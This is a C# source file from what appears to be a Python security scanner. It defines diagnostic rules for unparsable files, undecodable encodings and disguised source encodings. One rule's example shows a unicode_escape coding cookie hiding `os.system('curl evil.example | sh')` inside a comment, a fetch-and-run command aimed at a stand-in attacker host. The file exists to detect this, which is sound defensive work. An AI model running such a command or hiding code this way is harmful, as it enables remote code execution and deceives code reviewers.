using Bulwark.Core;
using Bulwark.Python;
using Bulwark.Python.Syntax;

namespace Bulwark.Rules.Code.Diagnostics;

/// <summary>A Python file that does not parse: the findings after its first error may be missing.</summary>
public sealed class SyntaxErrorRule : FileRule
{
    public static readonly SyntaxErrorRule Instance = new();

    public override RuleInfo Info { get; } = new(
        Id: "BW001", Name: "syntax-error", Family: Family.Code,
        Severity: Severity.Medium, Confidence: Confidence.High, Cwe: null,
        What: """
            Python files that Bulwark could not parse completely. After an error Bulwark goes on at the next line it
            can read, so the rest of the file is still checked; the finding says how many errors followed the first.
            """,
        Why: """
            Code that does not parse is only partly analysed: statements Bulwark could not recover are not checked, so a
            real problem may hide there. It may also be Python 2 code, or a template with a .py name. It is rated medium
            so that a scan filtered with `--severity medium` still says which files it could not fully read.
            """,
        Example: """
            def f(:
                pass
            """,
        Fix: "Fix the syntax error, or exclude the file from the scan (`--exclude`, `exclude` in the configuration) if it is not Python.",
        References: ["https://docs.python.org/3/reference/grammar.html"])
    {
        Compliance = Compliance.Unanalysable,
        Aliases = ["E999"],
    };

    // Reported by the scanner from the parser's diagnostics, not by a check of its own.
    public override bool AppliesTo(DiscoveredFile file) => false;
    public override void Check(SourceFile file, Rules.FileContext context) { }
}

/// <summary>A file that could not be read or decoded per PEP 263.</summary>
public sealed class UndecodableFileRule : FileRule
{
    public static readonly UndecodableFileRule Instance = new();

    public override RuleInfo Info { get; } = new(
        Id: "BW002", Name: "undecodable-file", Family: Family.Code,
        Severity: Severity.Medium, Confidence: Confidence.High, Cwe: null,
        What: """
            Python files whose bytes are not valid in their declared encoding (a PEP 263 coding cookie, or UTF-8 by
            default), or that could not be read. Every encoding CPython accepts in a coding cookie is decoded as CPython
            decodes it; a file whose cookie names a codec Bulwark cannot decode exactly (ISO-2022-JP text with escape
            sequences) is reported with high severity, because Python runs it and Bulwark did not read it.
            """,
        Why: """
            A file Bulwark cannot decode is not analysed at all. It is rated medium (high when Python would run it) so
            that a scan filtered with `--severity medium` still names it.
            """,
        Example: """
            # -*- coding: utf-8 -*-
            name = '\xff'  # saved as Latin-1 bytes
            """,
        Fix: "Save the file in the encoding it declares, or declare the encoding it is saved in.",
        References: ["https://peps.python.org/pep-0263/"])
    {
        Compliance = Compliance.Unanalysable,
    };

    public override bool AppliesTo(DiscoveredFile file) => false;
    public override void Check(SourceFile file, Rules.FileContext context) { }
}

/// <summary>BW003 — a coding cookie naming a codec that turns escape sequences into source code.</summary>
public sealed class HidingSourceEncodingRule : CodeRule
{
    public override RuleInfo Info { get; } = new(
        Id: "BW003", Name: "code-hiding-source-encoding", Family: Family.Code,
        Severity: Severity.High, Confidence: Confidence.High, Cwe: 506,
        What: """
            Python files whose coding cookie is `utf-7`, `unicode_escape` or `raw_unicode_escape`. Bulwark decodes them
            as Python does and analyses the decoded code; this rule says that the file is written so that people reading
            it see something else.
            """,
        Why: """
            With these codecs, escape sequences in the file become source text when Python reads it:
            `# \nimport os\nos.system(...)` is a comment in an editor and in a code review, but three statements to the
            interpreter. No legitimate project needs them; they are a known way to smuggle code past review.
            """,
        Example: """
            # coding: unicode_escape
            x = 1  # \nimport os\nos.system('curl evil.example | sh')
            """,
        Fix: "Save the file as UTF-8 and remove the cookie (or declare `utf-8`), and review what the decoded file really does.",
        References: ["https://peps.python.org/pep-0263/", "https://cwe.mitre.org/data/definitions/506.html",
                     "https://docs.python.org/3/library/codecs.html#text-encodings"])
    {
        Compliance = Compliance.HiddenCode,
    };

    public override IReadOnlyList<NodeKind> Kinds { get; } = [NodeKind.Module];

    public override void Check(Node node, CodeContext context)
    {
        if (SourceDecoder.DeclaredCodec(context.File.Text.Text) is not { } declared) return;
        if (declared.Codec is not ("utf_7" or "unicode_escape" or "raw_unicode_escape")) return;
        context.Report(this, declared.Start, declared.End,
            $"The file declares the `{declared.Codec}` source encoding: escape sequences in it become code that editors and reviews show as text.");
    }
}

/// <summary>A document (workflow, YAML configuration…) that rules read but that could not be parsed, or was too large or alias-heavy to load.</summary>
public sealed class UnparsableDocumentRule : FileRule
{
    public static readonly UnparsableDocumentRule Instance = new();

    public override RuleInfo Info { get; } = new(
        Id: "BW004", Name: "unparsable-document", Family: Family.Code,
        Severity: Severity.Medium, Confidence: Confidence.High, Cwe: null,
        What: """
            A workflow, CI configuration or other document that Bulwark's rules read, but that is not well-formed, or
            that exceeds the loader's limits (size, nesting depth, alias expansion).
            """,
        Why: """
            A document that cannot be parsed is not checked at all; it is rated medium, like the other files Bulwark
            could not analyse, so that `--severity medium` still names it. GitHub, GitLab or pre-commit would reject a
            malformed file too; a file built to exhaust a parser (a YAML alias bomb) deserves a look of its own.
            """,
        Example: """
            on: push
            jobs:
              build: [unclosed
            """,
        Fix: "Fix the syntax error the message points at, or exclude the file from the scan if it is not what its name says.",
        References: ["https://yaml.org/spec/1.2.2/"])
    {
        Compliance = Compliance.Unanalysable,
    };

    // Reported by the scanner when a document rule's file does not parse, not by a check of its own.
    public override bool AppliesTo(DiscoveredFile file) => false;
    public override void Check(SourceFile file, Rules.FileContext context) { }
}
